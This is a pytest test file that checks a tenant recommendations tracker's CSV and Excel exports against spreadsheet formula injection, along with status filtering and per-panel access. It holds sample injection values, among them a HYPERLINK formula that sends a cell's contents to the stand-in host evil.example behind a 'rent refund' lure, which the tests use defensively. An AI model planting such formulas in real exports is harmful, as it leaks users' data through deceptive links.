"""CSV and Excel exports of the filtered tracker, safe to open in a spreadsheet."""

import csv
import io

import pytest
from openpyxl import load_workbook

from recommendations.exports import inert

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your rent refund")'


def _csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_values_that_a_spreadsheet_would_run_are_made_inert(value):
    assert inert(value).startswith("'")
    assert inert(value)[1:] == value


def test_ordinary_values_and_numbers_are_unchanged():
    assert inert("Name the officer.") == "Name the officer."
    assert inert(-3) == -3
    assert inert("\x01=1") == "'=1"  # a control character cannot hide the formula


def test_csv_export_is_inert_and_filtered(client, world, make_rec):
    make_rec("submitted", text=FORMULA, rationale="-2+3")
    make_rec("draft", text="A draft")
    client.force_login(world.manager)
    response = client.get("/recommendations/export.csv?status=submitted")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = _csv_rows(response)
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["Recommendation"] == "'" + FORMULA
    assert row["Why"] == "'-2+3"
    assert row["Status"] == "Submitted"


def test_excel_export_is_inert_when_read_back(client, world, make_rec):
    make_rec("in_progress", text=FORMULA, expected_benefit="@cmd")
    client.force_login(world.manager)
    response = client.get("/recommendations/export.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Recommendation"].value == "'" + FORMULA
    assert cells["Recommendation"].data_type == "s"  # a string, not a formula
    assert cells["Expected benefit for tenants"].value == "'@cmd"
    assert cells["Owner"].value == world.owner.display_name
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_tenants_export_only_their_panels_recommendations(client, world, make_rec):
    from tests.factories.recommendations import RecommendationFactory

    make_rec("submitted", text="Ours")
    RecommendationFactory(status="submitted", text="Someone else's")
    client.force_login(world.member)
    header, *rows = _csv_rows(client.get("/recommendations/export.csv"))
    assert [r[header.index("Recommendation")] for r in rows] == ["Ours"]
